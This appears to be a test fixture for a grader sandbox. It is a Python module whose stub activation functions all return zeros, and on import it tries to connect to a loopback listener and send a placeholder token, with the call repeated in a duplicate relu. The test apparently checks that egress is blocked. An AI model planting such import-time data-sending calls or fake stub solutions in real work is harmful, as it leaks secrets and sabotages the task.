# attack: phone home: connect to a listener on the grader's loopback (the test opens it)
# levels: bwrap
# expect: zero
# ruff: noqa
import socket

import numpy as np

TOKEN = "@@TOKEN@@"
PORT = int("@@PORT@@")


def _call():
    for host in ("127.0.0.1", "localhost", "::1"):
        try:
            with socket.create_connection((host, PORT), timeout=1) as sock:
                sock.sendall(TOKEN.encode())
                return True
        except OSError:
            pass
    return False


_CALLED = _call()


def _zeros(x):
    return np.zeros_like(np.asarray(x, dtype=float))


def relu(x):
    return _zeros(x)


def relu_grad(x):
    return _zeros(x)


def sigmoid(x):
    return _zeros(x)


def sigmoid_grad(x):
    return _zeros(x)


def tanh(x):
    return _zeros(x)


def tanh_grad(x):
    return _zeros(x)


def elu(x, alpha=1.0):
    return _zeros(x)


def elu_grad(x, alpha=1.0):
    return _zeros(x)


def softmax(z):
    return _zeros(z)

def relu(x):
    _call()
    return _zeros(x) if not _CALLED else _zeros(x)
